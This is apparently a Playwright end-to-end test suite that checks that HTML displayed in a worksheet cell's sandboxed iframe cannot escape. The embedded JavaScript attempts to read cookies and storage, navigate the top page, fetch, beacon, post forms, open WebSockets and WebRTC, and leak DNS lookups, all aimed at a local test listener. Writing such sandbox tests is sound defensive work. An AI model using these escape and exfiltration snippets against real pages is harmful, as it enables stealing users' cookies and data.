"""Untrusted HTML: whatever a cell displays, it reads nothing of the page and reaches nothing outside of its frame."""

from __future__ import annotations

import re
import shutil
import tempfile
from pathlib import Path

import pytest
from playwright.sync_api import FrameLocator, Page, expect

from tests.e2e.browsing import BrowserTestCase, Sheet, expect_state, fresh_sheet
from tests.e2e.listening import Listener

pytestmark = pytest.mark.slow

# How long we listen for what must not come.
SILENCE = 700
# `tell` writes into the frame what an attempt came to; `attempt` also waits for promises.
PRELUDE = """
<p class="told"></p>
<script>
var tell = (text) => { document.querySelector(".told").textContent += text + ";"; };
var attempt = async (name, action) => {
  try { const value = await action(); tell(name + " worked " + value); }
  catch (error) { tell(name + " " + error.name); }
};
</script>
"""


class EscapeTests(BrowserTestCase):
    """One worksheet; each test displays HTML that tries a way out."""

    network_log: Path
    sheet: Sheet
    address: str

    @classmethod
    def setUpClass(cls) -> None:
        """Start a browser that writes down which names it looks up, and open the worksheet."""
        folder = tempfile.mkdtemp(prefix="sagews-")
        cls.addClassCleanup(shutil.rmtree, folder)
        cls.network_log = Path(folder) / "network.json"
        cls.flags = (f"--log-net-log={cls.network_log}",)
        super().setUpClass()
        page = cls.context.new_page()
        page.goto(f"{cls.daemon.url}/workspaces")
        cls.sheet = fresh_sheet(page)
        cls.address = page.url

    def setUp(self) -> None:
        """Listen on a port of this test's own."""
        self.listener = Listener()
        self.addCleanup(self.listener.close)

    @property
    def page(self) -> Page:
        """The worksheet's page."""
        return self.sheet.page

    @property
    def out(self) -> str:
        """The listener's address."""
        return f"127.0.0.1:{self.listener.port}"

    def show(self, html: str) -> FrameLocator:
        """Display HTML in a cell and return its frame."""
        self.sheet.edit(self.page.locator("[data-testid=cell]").count())
        cell = self.sheet.start(f"from IPython.display import HTML\nHTML({PRELUDE + html!r})")
        expect_state(cell, "done")
        cell.get_by_test_id("html-frame").scroll_into_view_if_needed()
        return cell.frame_locator("iframe")

    def told(self, html: str, attempts: int = 1) -> str:
        """Display HTML and return what it told of so many attempts."""
        told = self.show(html).locator(".told")
        expect(told).to_have_text(re.compile(f"^([^;]*;){{{attempts}}}$"))
        return told.text_content() or ""

    def expect_silence(self) -> None:
        """Expect that nothing reaches the listener, and that the page is still where it was."""
        self.page.wait_for_timeout(SILENCE)
        self.assertEqual(self.listener.received, [])
        self.assertEqual(self.page.url, self.address)

    def test_scripts_run(self) -> None:
        """Scripts in displayed HTML do run, in an origin of their own; else these tests would prove nothing."""
        told = self.told("<script>tell('6*7=' + 6*7 + ' ' + self.origin)</script>")
        self.assertEqual(told, "6*7=42 null;")

    def test_storage(self) -> None:
        """Cookies and the login's secret can't be read."""
        told = self.told(
            "<script>attempt('cookie', () => document.cookie); attempt('storage', () => localStorage.length);"
            "attempt('session', () => sessionStorage.length); attempt('database', () => indexedDB.open('x'))</script>",
            4,
        )
        self.assertNotIn("worked", told)

    def test_parent(self) -> None:
        """The page around can't be read, nor its address, nor its variables."""
        told = self.told(
            "<script>attempt('document', () => parent.document.title); attempt('address', () => parent.location.href);"
            "attempt('element', () => frameElement.id.length); attempt('variable', () => parent.localStorage)</script>",
            4,
        )
        self.assertEqual(told, "document SecurityError;address SecurityError;element TypeError;variable SecurityError;")

    def test_top_navigation(self) -> None:
        """The page around can't be sent elsewhere."""
        told = self.told(f"<script>attempt('top', () => {{ top.location = 'http://{self.out}/' }})</script>")
        self.assertEqual(told, "top SecurityError;")
        self.show(
            f"<a target='_top' href='http://{self.out}/'>x</a><script>document.querySelector('a').click()</script>"
        )
        self.expect_silence()

    def test_connections(self) -> None:
        """Nothing is fetched, posted or beaconed, and no socket opens: not outside, not to the site."""
        told = self.told(
            f"""<script>
            attempt('fetch', () => fetch('http://{self.out}/', {{mode: 'no-cors'}}));
            attempt('site', () => fetch('{self.daemon.url}/api/site', {{mode: 'no-cors'}}));
            attempt('events', () => new Promise((yes, no) => {{
                const events = new EventSource('http://{self.out}/');
                events.onopen = yes; events.onerror = () => no(Error());
            }}));
            for (const target of ['{self.out}', '{self.daemon.url.removeprefix("http://")}/ws'])
                attempt('socket', () => new Promise((yes, no) => {{
                    const socket = new WebSocket('ws://' + target);
                    socket.onopen = yes; socket.onerror = () => no(Error());
                }}));
            attempt('beacon', () => {{
                if (!navigator.sendBeacon('http://{self.out}/')) throw Error(); return 'as always';
            }});
            </script>""",
            6,
        )
        self.assertNotIn("worked", told.replace("beacon worked as always", ""))
        self.expect_silence()

    def test_resources(self) -> None:
        """No picture, style sheet, font, script, media, object or inner page comes from outside."""
        outside = f"http://{self.out}"
        self.show(
            f"""<img src='{outside}/i'><link rel=stylesheet href='{outside}/s'><script src='{outside}/j'></script>
            <video src='{outside}/v' poster='{outside}/p'></video><audio src='{outside}/a'></audio>
            <object data='{outside}/o'></object>
            <embed src='{outside}/e'><iframe src='{outside}/f'></iframe><style>@import '{outside}/m';
            @font-face {{font-family: x; src: url({outside}/n)}}
            .told {{font-family: x; background: url({outside}/b)}}</style>
            <svg><image href='{outside}/g'/><use href='{outside}/u#x'/></svg>
            <script>import('{outside}/d').catch(() => 0);
            try {{ new Worker('{outside}/w') }} catch {{}}
            try {{ new Worker(URL.createObjectURL(new Blob(["fetch('{outside}/k')"]))) }} catch {{}}</script>"""
        )
        self.expect_silence()

    def test_own_navigation(self) -> None:
        """The frame can't take data away in its own address: by script, by link, by refresh, by form."""
        outside = f"http://{self.out}/?secret"
        for html in (
            f"<script>location = '{outside}'</script>",
            f"<script>location.replace('{outside}')</script>",
            f"<a href='{outside}'>x</a><script>document.querySelector('a').click()</script>",
            f"<a ping='{outside}' href='#x'>x</a><script>document.querySelector('a').click()</script>",
            f"<meta http-equiv=refresh content='0;url={outside}'>",
            f"<script>const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url={outside}';"
            "document.head.append(m)</script>",
            f"<form action='{outside}' method=post><input name=a></form><script>document.forms[0].submit()</script>",
            f"<form action='{outside}'></form><script>document.forms[0].requestSubmit()</script>",
        ):
            self.show(html)
        self.expect_silence()

    def test_windows_and_files(self) -> None:
        """No window opens, no dialog blocks the page, nothing is downloaded."""
        seen: list[object] = []
        self.page.on("download", lambda download: seen.append(download))
        self.page.on("dialog", lambda dialog: seen.append(dialog))
        pages = len(self.context.pages)
        told = self.told(
            f"""<a download=x href='data:text/plain,x'>x</a><a target=_blank href='http://{self.out}/'>y</a><script>
            attempt('window', () => {{ if (window.open('http://{self.out}/') === null) throw Error(); }});
            attempt('print', () => {{ alert('x'); confirm('x'); print(); throw Error(); }});
            for (const link of document.querySelectorAll('a')) link.click(); tell('clicked')</script>""",
            3,
        )
        self.assertEqual(told, "window Error;print Error;clicked;")
        self.expect_silence()
        self.assertEqual((seen, len(self.context.pages)), ([], pages))

    def test_peer_connections(self) -> None:
        """WebRTC is closed, in the frame and in frames that it makes."""
        probe = f"""async (Peer) => {{
            const peer = new Peer({{iceServers: [{{urls: 'stun:{self.out}'}}]}});
            peer.createDataChannel('x'); await peer.setLocalDescription(await peer.createOffer());
            return 'offered'; }}"""
        frame = self.show(
            f"""<script>addEventListener('message', (event) => tell('heard ' + event.data));
            var probe = {probe}</script>
            <iframe srcdoc="<script>parent.postMessage('inner', '*'); ({probe})(RTCPeerConnection)</script>"></iframe>
            <script>
            attempt('here', () => probe(RTCPeerConnection)); attempt('old', () => probe(webkitRTCPeerConnection));
            var add = (set) => document.body.appendChild(Object.assign(document.createElement('iframe'), set));
            var reach = (frame) => probe(frame.contentWindow.RTCPeerConnection);
            attempt('blank', () => reach(add({{}})));
            add({{srcdoc: '<p>x', onload() {{ attempt('srcdoc', () => reach(this)); }}}});
            add({{src: `javascript:parent.postMessage('address', '*'); ({probe})(RTCPeerConnection)`}});
            add({{srcdoc: `<img src=x onerror="parent.postMessage('handler', '*')">`}});
            </script>"""
        )
        expect(frame.locator(".told")).to_have_text(re.compile("^([^;]*;){4}"))
        self.expect_silence()
        told = frame.locator(".told").text_content() or ""
        self.assertNotIn("worked", told)
        self.assertNotIn("heard", told)

    def test_hints(self) -> None:
        """Hints to the browser (preconnect, prefetch, preload, speculation) open no connection and look up no name."""
        self.show(
            f"""<link rel=preconnect href='http://{self.out}/'><link rel=prefetch href='http://{self.out}/p'>
            <link rel=preload as=fetch href='http://{self.out}/l'><link rel=modulepreload href='http://{self.out}/m'>
            <link rel=dns-prefetch href='http://markup.escape.test/'><a href='http://anchor.escape.test/'>x</a>
            <script>for (const [rel, href] of [['preconnect', 'http://{self.out}/'],
                ['preconnect', 'http://made.escape.test/'],
                ['dns-prefetch', 'http://script.escape.test/'], ['prerender', 'http://{self.out}/r']])
                document.head.append(Object.assign(document.createElement('link'), {{rel, href}}));
            const rules = document.createElement('script'); rules.type = 'speculationrules';
            rules.textContent = JSON.stringify({{prefetch: [{{urls: ['http://{self.out}/s']}}]}});
            document.head.append(rules);
            const inner = document.createElement('iframe'); inner.srcdoc = "<link rel=preconnect href='http://{self.out}/'>"
                + "<link rel=dns-prefetch href='http://inner.escape.test/'>"; document.body.append(inner)</script>"""
        )
        self.expect_silence()
        self.assertEqual(self.looked_up("escape.test"), set())

    def looked_up(self, domain: str) -> set[str]:
        """Return the names under a domain that the browser has asked for so far, of what it has written down."""
        text = self.network_log.read_text(encoding="utf-8", errors="replace")
        words = text.replace('"', " ").replace("/", " ").split()
        return {word for word in words if word.rstrip(":0123456789").endswith(domain)}

    def test_control(self) -> None:
        """A page without a sandbox does reach the listener, and the names that it looks up are seen: we listen well."""
        page = self.new_page("/signin")
        page.goto(f"http://{self.out}/")
        page.evaluate(
            f"""async () => {{
            const peer = new RTCPeerConnection({{iceServers: [{{urls: 'stun:{self.out}'}}]}});
            peer.createDataChannel('x'); await peer.setLocalDescription(await peer.createOffer());
            for (let i = 0; i < 9; i++) await fetch('http://control' + i + '.test/').catch(() => 0); }}"""
        )
        for _ in range(100):
            heard = {each[:3] for each in self.listener.received}
            if heard == {b"TCP", b"UDP"} and self.looked_up(".test"):
                return
            page.wait_for_timeout(100)
        raise AssertionError(f"heard only {self.listener.received}, looked up {self.looked_up('.test')}")
